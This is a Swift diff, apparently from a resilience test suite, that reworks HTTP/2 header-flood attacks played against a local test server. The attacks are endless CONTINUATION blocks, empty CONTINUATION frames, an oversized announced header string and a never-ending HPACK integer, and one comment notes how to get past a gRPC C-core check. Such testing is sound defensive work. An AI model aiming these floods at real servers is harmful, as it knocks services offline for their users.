@@ -6,7 +6,7 @@ struct HeaderFlood: Attack {
     /// What the block is made of.
     enum Kind: String, CaseIterable {
         case continuation
-        case fields = "header-fields"
+        case empty = "empty-continuation"
         case headerString = "header-string"
         case padding = "hpack-padding"
     }
@@ -16,8 +16,8 @@ struct HeaderFlood: Attack {
     var name: String { kind.rawValue }
     var summary: String {
         switch kind {
-        case .continuation: "300 MB of CONTINUATION frames, in a block that never ends"
-        case .fields: "300 MB of small header fields in CONTINUATION frames, in blocks that never end"
+        case .continuation: "300 MB of small header fields in CONTINUATION frames, in a block that never ends"
+        case .empty: "CONTINUATION frames with nothing in them, in a block that never ends"
         case .headerString: "one header string that is said to be 1 GB long, sent on in small frames"
         case .padding: "an HPACK integer that goes on and on, in small frames"
         }
@@ -25,7 +25,7 @@ struct HeaderFlood: Attack {
     let bar = "RSS < 150 MB, honest p99 < 1 s"
 
     private static let totalBytes = 300_000_000
-    private var isEndless: Bool { kind == .headerString || kind == .padding }
+    private var isEndless: Bool { kind != .continuation }
 
     func play(on stage: AttackStage) async throws -> [Figure] {
         try await stage.withVictim(in: stage.makeDirectory(name), VictimConfiguration()) { victim in
@@ -49,14 +49,15 @@ struct HeaderFlood: Attack {
         let payload: [UInt8]
         switch kind {
         case .continuation:
-            block.append("x-flood", announcing: Self.totalBytes)
-            payload = [UInt8](repeating: 0x61, count: HTTP2Frame.longestPayload)
-        case .fields:
+            // After a call's own fields C-core 1.51 ends the connection at once; without them it keeps what comes.
+            block = HeaderBlock()
             var fields = HeaderBlock()
             while fields.bytes.count < HTTP2Frame.longestPayload - 200 {
                 fields.append("x-flood", String(repeating: "a", count: 120))
             }
+            block.append("x", "y")
             payload = fields.bytes
+        case .empty: payload = []
         case .headerString:
             block.append("x-flood", announcing: 1_000_000_000)
             payload = [UInt8](repeating: 0x61, count: 1_024)
